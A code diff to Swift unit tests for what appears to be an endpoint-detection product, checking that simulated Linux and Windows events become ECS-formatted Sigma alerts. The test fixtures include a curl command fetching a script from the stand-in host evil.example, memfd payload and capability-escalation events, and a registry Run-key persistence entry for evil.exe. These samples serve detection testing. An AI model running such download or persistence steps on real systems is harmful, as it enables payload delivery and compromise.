@@ -212,15 +212,16 @@ enum AlertSamples {
     }
 
     /// Linux events through the real normalizers: exec, and each telemetry kind.
-    static func linuxEvents() throws -> [TelemetryEvent] {
+    static func linuxEvents() throws -> [(event: Event, process: ProcessEntry?, parent: ProcessEntry?)] {
         var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
-        var out: [TelemetryEvent] = []
+        var out: [(event: Event, process: ProcessEntry?, parent: ProcessEntry?)] = []
         let parent = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash"], path: "/usr/bin/bash", cwd: "/root",
                                                                                start: 1_000_000_000, parentStart: 500_000_000)).asExec)
         _ = n.exec(parent)
         let e = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 100, ppid: 50, args: ["curl", "-o", "/tmp/x", "https://evil.example:8443/p/x.sh?a=1"],
                                                                           path: "/usr/bin/curl", cwd: "/tmp")).asExec)
-        if let exec = n.exec(e) { out.append(TelemetryEvent(event: exec, process: n.cache.lookup(pid: 100, startTicks: 500))) }
+        let exec = n.exec(e)
+        out.append((exec.0, exec.1, exec.2))
         let t2 = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 200, ppid: 1, args: ["sshd"], path: "/usr/sbin/sshd", cwd: "/")).asExec)
         _ = n.exec(t2)
         var t = TelemetryNormalizer(machineID: "ab")
@@ -243,7 +244,9 @@ enum AlertSamples {
             TelemetryBuilder.attack(op: 16, path: "/memfd:payload"),
             TelemetryBuilder.attack(op: 17, args: [8, 0, 0, 0]),
         ]
-        for r in records { out += t.handle(try KernelRecordDecoder.decode(r), processes: n.cache, now: 1, wallTime: clock) }
+        for r in records {
+            out += t.handle(try KernelRecordDecoder.decode(r), processes: n.cache, now: 1, wallTime: clock).map { ($0.event, $0.process, nil) }
+        }
         return out
     }
 
@@ -286,7 +289,7 @@ enum AlertSamples {
             seq += 1
             out.append(("sigma \(t.event.logsource.category ?? "")",
                         AlertEncoder.sigma(event: t.event, rule: rule(t.event.logsource.category), sequence: seq, context: context,
-                                           process: t.process, parent: nil)))
+                                           process: t.process, parent: t.parent)))
         }
         for e in windowsEvents() {
             seq += 1
@@ -358,6 +361,10 @@ struct ECSFieldTests {
             #expect(categories.contains(c), "no sample alert for \(c)")
         }
         var ids = Set<String>()
+        // ECS_ALERT_SAMPLES=FILE writes the samples there (how the examples in docs/alerts.md were made).
+        if let path = ProcessInfo.processInfo.environment["ECS_ALERT_SAMPLES"] {
+            try Data(alerts.flatMap { Array("# \($0.0)\n".utf8) + $0.1 }).write(to: URL(fileURLWithPath: path))
+        }
         for (name, line) in alerts {
             #expect(line.last == 0x0A && !line.dropLast().contains(0x0A), "\(name): not one line")
             let v = try JSONValue.parse(line)
@@ -391,8 +398,9 @@ struct ECSFieldTests {
         let file = try #require(alerts["sigma file_rename"])
         #expect(file["file.path"]?.string == "/tmp/b.sh" && file["file.name"]?.string == "b.sh" && file["file.directory"]?.string == "/tmp")
         #expect(file["file.extension"]?.string == "sh" && file["edr.event.TargetFilename"]?.string == "/tmp/b.sh")
-        let caps = try #require(alerts["sigma privilege_change"])
-        #expect(caps["process.thread.capabilities.effective"]?.strings == ["CAP_SYS_ADMIN"] || caps["edr.event.CapEffective"] == nil)
+        let caps = try AlertSamples.all().filter { $0.0 == "sigma privilege_change" }.map { try JSONValue.parse($0.1) }
+        #expect(caps.contains { $0["process.thread.capabilities.effective"]?.strings == ["CAP_SYS_ADMIN"] })
+        #expect(alerts["sigma mount"]?["url"] == nil && alerts["sigma windows process_creation"]?["url.domain"]?.string == "10.0.0.5")
         let reg = try #require(alerts["sigma windows registry_set"])
         #expect(reg["registry.hive"]?.string == "HKLM" && reg["registry.key"]?.string == "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run")
         #expect(reg["registry.value"]?.string == "evil" && reg["registry.data.strings"]?.strings == ["C:\\Users\\alice\\evil.exe"])
